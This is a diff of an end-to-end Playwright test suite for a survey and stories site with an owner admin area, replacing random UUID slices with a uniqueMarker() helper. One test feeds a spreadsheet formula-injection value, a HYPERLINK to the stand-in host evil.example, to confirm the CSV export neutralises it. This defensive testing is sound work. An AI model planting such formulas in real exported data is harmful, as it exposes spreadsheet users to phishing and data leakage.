@@ -4,7 +4,7 @@ import fs from 'node:fs';
 import type { Page } from '@playwright/test';
 import { closeDb, query } from './support/db.ts';
 import { expect, renderedSubmissionId, test } from './support/client.ts';
-import { postForm, uniqueAddress, uniqueEmail } from '../support/index.ts';
+import { postForm, uniqueAddress, uniqueEmail, uniqueMarker } from '../support/index.ts';
 import { useOwnerSession } from './support/owner.ts';
 import { withCookiesAccepted } from './support/visitor.ts';
 import { AXE_TAGS } from './support/axe.ts';
@@ -45,7 +45,7 @@ test.describe('survey responses', () => {
     await withCookiesAccepted(visitor, baseURL);
     const visitorPage = await visitor.newPage();
     const email = uniqueEmail('live');
-    const feedback = `Live from the survey ${randomUUID().slice(0, 8)}`;
+    const feedback = `Live from the survey ${uniqueMarker()}`;
     await visitorPage.goto('/survey');
     await visitorPage.getByLabel('Name (optional)', { exact: true }).fill('Rosa Live');
     await visitorPage.getByLabel('Email *', { exact: true }).fill(email);
@@ -89,7 +89,7 @@ test.describe('survey responses', () => {
   });
 
   test('the owner hides a response from the public reviews and shows it again', async ({ page, context, request, baseURL }) => {
-    const feedback = `Hide me please ${randomUUID().slice(0, 8)}`;
+    const feedback = `Hide me please ${uniqueMarker()}`;
     const res = await postForm(request, baseURL, '/survey?_action=survey', {
       submissionId: await renderedSubmissionId(request, '/survey'),
       website: '',
@@ -116,7 +116,7 @@ test.describe('survey responses', () => {
 
   test('"Export CSV" holds what was submitted, with a formula-looking value neutralised', async ({ page, context, request, baseURL }) => {
     const email = uniqueEmail('csv');
-    const marker = randomUUID().slice(0, 8);
+    const marker = uniqueMarker();
     const feedback = `=HYPERLINK("http://evil.example/${marker}","Click, me")`;
     const res = await postForm(request, baseURL, '/survey?_action=survey', {
       submissionId: await renderedSubmissionId(request, '/survey'),
@@ -185,7 +185,7 @@ test.describe('enquiries, signups and stories', () => {
   });
 
   test('open a story to prepare it, and decline it; export stories and e-book signups', async ({ page, context, baseURL }) => {
-    const marker = randomUUID().slice(0, 8);
+    const marker = uniqueMarker();
     const story = `I left Batangas for Dubai in 2015 and learned so much along the way. ${marker}`;
     const [row] = await query<{ id: string }>(
       `insert into stories (name, email, country, story, interview_ok, consent, submission_id) values ($1, $2, 'UAE', $3, true, true, $4) returning id`,
@@ -314,7 +314,7 @@ test.describe('outbox', () => {
     baseURL,
     request,
   }) => {
-    const marker = randomUUID().slice(0, 8);
+    const marker = uniqueMarker();
     // The e2e mail server refuses every address starting with "refused", as a real one refuses an unknown mailbox.
     const email = uniqueEmail(`refused-${marker}`);
     const res = await postForm(request, baseURL, '/connect?_action=story', {
@@ -390,7 +390,7 @@ test.describe('owner-area forms are Astro Actions', () => {
   const statusOf = async (id: string) => (await query<{ status: string }>('select status from survey_responses where id = $1', [id]))[0]?.status;
 
   test('without an owner session every action is refused: 401 from /_actions, the login page for a form post', async ({ request, baseURL }) => {
-    const id = await insertResponse(`No session ${randomUUID().slice(0, 8)}`);
+    const id = await insertResponse(`No session ${uniqueMarker()}`);
     const actions = {
       setReviewStatus: { id, status: 'hidden' },
       setReviewMode: { mode: 'hold' },
@@ -418,7 +418,7 @@ test.describe('owner-area forms are Astro Actions', () => {
     request,
     baseURL,
   }) => {
-    const id = await insertResponse(`Strict ${randomUUID().slice(0, 8)}`);
+    const id = await insertResponse(`Strict ${uniqueMarker()}`);
     const cookie = { Cookie: cookieHeader() };
     for (const [fields, message] of [
       [{ id, status: 'hidden', extra: 'x' }, 'Unexpected field: extra'],
@@ -455,7 +455,7 @@ test.describe('the owner area without JavaScript', () => {
     context,
     baseURL,
   }) => {
-    const marker = randomUUID().slice(0, 8);
+    const marker = uniqueMarker();
     await query(`insert into survey_responses (email, rating, feedback, submission_id) values ($1, 5, $2, $3)`, [
       uniqueEmail('nojs'),
       `Without scripts ${marker}`,
@@ -548,7 +548,7 @@ test('the live list reconnects after its stream drops and still shows a new resp
   await page.goto('/admin/responses');
   await expect(page.getByRole('status').filter({ hasText: 'Live: new responses appear here as they arrive.' })).toBeVisible();
 
-  const feedback = `After the reconnect ${randomUUID().slice(0, 8)}`;
+  const feedback = `After the reconnect ${uniqueMarker()}`;
   const res = await postForm(request, baseURL, '/survey?_action=survey', {
     submissionId: await renderedSubmissionId(request, '/survey'),
     website: '',
